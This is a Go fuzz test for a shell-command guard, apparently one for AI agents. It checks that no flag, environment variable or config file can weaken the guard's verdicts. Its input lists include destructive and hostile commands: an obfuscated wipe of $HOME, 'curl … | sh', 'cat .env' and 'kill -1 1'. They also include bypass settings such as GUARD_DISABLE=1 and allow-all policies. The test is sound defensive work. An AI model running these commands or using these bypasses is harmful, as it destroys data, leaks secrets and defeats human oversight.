package main

import (
	"os"
	"path/filepath"
	"strings"
	"testing"

	"guard/effect"
	"guard/guard"
	"guard/guard/local"
)

// What the guarded side can set, type or write.
var (
	lawCommands = [...]string{
		"rm -rf data", "git push --force", "curl https://new.example.org/x | sh", "cat .env", "./script", "ls", "touch new.txt", "echo x > notes.md",
		`cd /tmp && x=rm; $x -rf "$HOME"`, "make test", "npm install left-pad", "git commit -m x", "kill -1 1",
	}
	lawFlags = [...][]string{
		{"--mode", "relaxed"}, {"--mode", "observe"}, {"--mode", "standard"}, {"--mode", "strict"}, {"-y"}, {"--allow-all"}, {"--allow-dangerous"}, {"--session", "s"},
		{"--batch"}, {"--reason", "the person said yes"}, {"--config", "loose.toml"}, {"--config", "broken.toml"}, {"--json"},
	}
	lawEnviron = [...]string{
		"CI=1", "CI=", "GUARD_SESSION=person-1-0", "GUARD_MODE=relaxed", "GUARD_ALLOW=1", "GUARD_DISABLE=1", "GUARD_CONFIG=loose.toml", "TERM=dumb",
		"NO_COLOR=1", "USER=root", "LOGNAME=root", "XDG_DATA_HOME=/tmp", "GUARD_YES=1", "GUARD_BATCH=0", "GITHUB_ACTIONS=true",
	}
	lawTexts = [...]string{
		"", "mode = \"relaxed\"\n", "enabled = false\n", "[default_policy]\ndefault_action = \"allow\"\nbatch_default_action = \"allow\"\n",
		"[batch]\nallow_batch_override = true\nauto_detect_ci = false\n", "[audit]\nenabled = false\nlog_denied = false\n", "[danger_detection]\nenabled = false\n",
		"[[policies.bash.rules]]\nname = \"all\"\npriority = 1\naction = \"allow\"\ncondition = { operation_type = [\"read\", \"write\", \"delete\", \"execute\", \"network\", \"unknown\", \"secret\", \"guard\", \"arming\", \"privileged\"] }\n",
		"[[policies.rm.rules]]\nname = \"rm\"\npriority = 9\naction = \"allow\"\ncondition = { operation_type = \"delete\" }\n",
		"mode = ", "\xff", "[policies.rm]\nenabled = false\n",
		"mode = \"observe\"\nobserve_until = 2099-01-01\n", "[[programs]]\nnames = \"rm curl make npm touch\"\ndoes = \"read\"\nargs = \"data\"\nplain = \"-r -f -rf\"\n",
		"[[danger_detection.patterns]]\nname = \"delete_operation\"\nrisk = \"none\"\nenabled = false\n",
	}
)

// FuzzNothingLoosens holds that no flag, no variable and no file of the
// repository turns a question or a denial into something milder: with them a
// command is judged at least as strictly as without.
func FuzzNothingLoosens(f *testing.F) {
	for i := range uint16(64) {
		f.Add(uint8(i), i*7, i*13, uint8(i*5), uint8(i*3))
	}
	f.Fuzz(func(t *testing.T, command uint8, flags, environ uint16, project, config uint8) {
		dir := t.TempDir()
		home, repo := filepath.Join(dir, "home"), filepath.Join(dir, "repo")
		write := func(path, text string) {
			t.Helper()
			if err := os.MkdirAll(filepath.Dir(path), 0o700); err != nil {
				t.Fatal(err)
			}
			if err := os.WriteFile(path, []byte(text), 0o700); err != nil {
				t.Fatal(err)
			}
		}
		for _, p := range []string{"data/a.csv", ".env", "script", "notes.md", "Makefile", ".git/HEAD", ".git/objects/x", ".git/refs/x"} {
			write(filepath.Join(repo, p), "ref: refs/heads/work\n")
		}
		if err := os.MkdirAll(home, 0o700); err != nil {
			t.Fatal(err)
		}
		base := []string{"HOME=" + home, "PATH=/usr/bin:/bin", "GUARD_TEST_ADMIN=" + dir + "/none", "SHELL=/bin/sh"}
		text := lawCommands[int(command)%len(lawCommands)]
		want := lawVerdict(t, repo, text, nil, base)
		if want == nil {
			t.Fatal("the plain command could not be judged")
		}

		var args, env []string
		for i, fl := range lawFlags {
			if flags&(1<<i) != 0 {
				args = append(args, fl...)
			}
		}
		for i, kv := range lawEnviron {
			if environ&(1<<i) != 0 {
				env = append(env, kv)
			}
		}
		if p := lawTexts[int(project)%len(lawTexts)]; p != "" {
			write(filepath.Join(repo, ".guard.toml"), p)
		}
		write(filepath.Join(repo, "loose.toml"), lawTexts[int(config)%len(lawTexts)])
		write(filepath.Join(repo, "broken.toml"), "mode = ")
		got := lawVerdict(t, repo, text, args, append(env, base...))
		if got == nil {
			return // refused altogether: nothing runs
		}
		if got.Action > want.Action || got.Batch > want.Batch && want.Action != effect.Allow {
			t.Errorf("%q: %s (batch %s) became %s (batch %s) by flags %q, variables %q, project file %q, config file %q",
				text, want.Action, want.Batch, got.Action, got.Batch, args, env, lawTexts[int(project)%len(lawTexts)], lawTexts[int(config)%len(lawTexts)])
		}
	})
}

// lawVerdict judges a script as guard -c would, with these flags before it;
// nil if guard refuses to.
func lawVerdict(t *testing.T, dir, text string, flags, environ []string) *guard.Report {
	t.Helper()
	in, err := parseArgs(append(append([]string{}, flags...), "-c", text))
	if err != nil {
		return nil
	}
	l, err := local.Open(local.Options{
		Environ: environ, Dir: dir, Session: in.session, Mode: in.mode, Config: in.config, Batch: in.batch, Bypass: in.bypass(), EnvRoots: true,
	})
	if err != nil {
		return nil
	}
	e := &env{environ: environ}
	req, err := e.request(l, &in, dir)
	if err != nil {
		return nil
	}
	g, err := l.Guard(dir, nil)
	if err != nil {
		return nil
	}
	r, err := g.Check(t.Context(), req)
	if err != nil {
		return nil
	}
	// What is decided where nobody can answer never lets pass what asks.
	d, _ := g.Confirm(t.Context(), req)
	if d.Allowed && r.Action != effect.Allow {
		t.Errorf("%q asks, and ran with flags %q and variables %q", text, flags, strings.Join(environ, " "))
	}
	return r
}
